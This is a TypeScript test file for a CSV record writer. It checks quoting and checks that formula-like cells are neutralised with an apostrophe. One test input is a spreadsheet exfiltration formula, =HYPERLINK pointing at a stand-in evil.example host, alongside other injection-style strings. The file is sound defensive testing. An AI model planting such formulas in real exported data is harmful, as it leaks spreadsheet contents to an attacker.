import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvRecord } from './csv.ts';

/** A reader of RFC 4180, for the test. */
function parseRecord(text: string): string[] {
  const cells: string[] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n$)/gy;
  for (let match = cell.exec(text); match; match = cell.exec(text)) {
    cells.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
    if (match[3] !== ',') break;
  }
  return cells;
}

describe('a CSV record', () => {
  it('quotes what needs it', () => {
    expect(csvRecord(['plain', 'a,b', 'say "hi"', 'two\nlines', null, 7, false])).toBe(
      'plain,"a,b","say ""hi""","two\nlines",,7,false\r\n',
    );
  });

  it.each([
    '=1+1',
    '+15550100199',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    ' =1+1',
    '=HYPERLINK("http://evil.example?"&A1)',
    '＝1+1',
  ])('D100 makes no formula of %j', (value) => {
    expect(parseRecord(csvRecord([value]))).toEqual([`'${value}`]);
  });

  it('D100 reads back as it was written, but for the apostrophe', () => {
    const text = fc.string({
      unit: fc.constantFrom('"', ',', '\r', '\n', '=', '-', 'a', ' ', 'é'),
    });
    fc.assert(
      fc.property(fc.array(text, { minLength: 1 }), (values) => {
        const read = parseRecord(csvRecord(values));
        expect(read).toHaveLength(values.length);
        read.forEach((cell, index) => {
          expect([values[index], `'${values[index]}`]).toContain(cell);
          expect(cell).not.toMatch(/^\s*[=+\-@]/);
        });
      }),
    );
  });
});
